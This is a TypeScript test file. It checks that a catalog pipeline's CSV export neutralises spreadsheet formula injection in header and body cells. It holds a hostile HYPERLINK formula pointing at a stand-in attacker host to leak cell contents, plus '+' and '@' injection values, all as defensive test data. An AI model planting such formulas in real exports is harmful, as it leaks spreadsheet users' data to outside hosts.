/**
 * Every artifact that shows page text, built from test/fixtures/hostile/live-text (cells, headers,
 * codes and file names written to be live somewhere), read back as its reader would read it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { compileCatalog } from '../../pipeline/compile';
import { emitCsv } from '../../pipeline/emit/csv';
import type { CatalogSpec } from '../../pipeline/sources';
import { repoRoot } from '../helpers/reference';

const FIXTURE = join(repoRoot, 'test', 'fixtures', 'hostile', 'live-text');

/** The live-text pages compiled in memory, under the file names given (shown in reports). */
function compileLive(files: { zh: string; en: string } = { zh: 'sources/live/zh.md', en: 'sources/live/en.md' }, edit: (page: string, lang: string) => string = (p) => p) {
  const spec: CatalogSpec = {
    name: 'live',
    pages: (['zh', 'en'] as const).map((lang) => ({ lang, file: files[lang], bytes: Buffer.from(edit(readFileSync(join(FIXTURE, `${lang}.md`), 'utf8'), lang)) })),
    configPath: join(FIXTURE, 'catalog.json'),
    baselinePath: null,
  };
  return compileCatalog(spec);
}

describe('catalog.csv', () => {
  it('neutralises header cells as it does body cells', () => {
    const live = compileLive();
    const [header, ...rows] = parse(emitCsv(live.catalog)) as string[][];
    const hyperlink = '=HYPERLINK("https://evil.example/?q="&A2,"open")';
    expect(header).toContain(`'${hyperlink}_zh`);
    // A spreadsheet shows the text behind the apostrophe: the page's header, as written.
    expect(header!.filter((h) => h.startsWith("'")).map((h) => h.slice(1))).toEqual([`${hyperlink}_zh`, `${hyperlink}_en`]);
    expect(header!.filter((h) => /^[=+\-@\t\r\n]/.test(h))).toEqual([]);
    expect(rows.map((r) => r[header!.indexOf(`'${hyperlink}_zh`)])).toEqual(['x', "'+1", "'@SUM(A1)"]);
  });
});
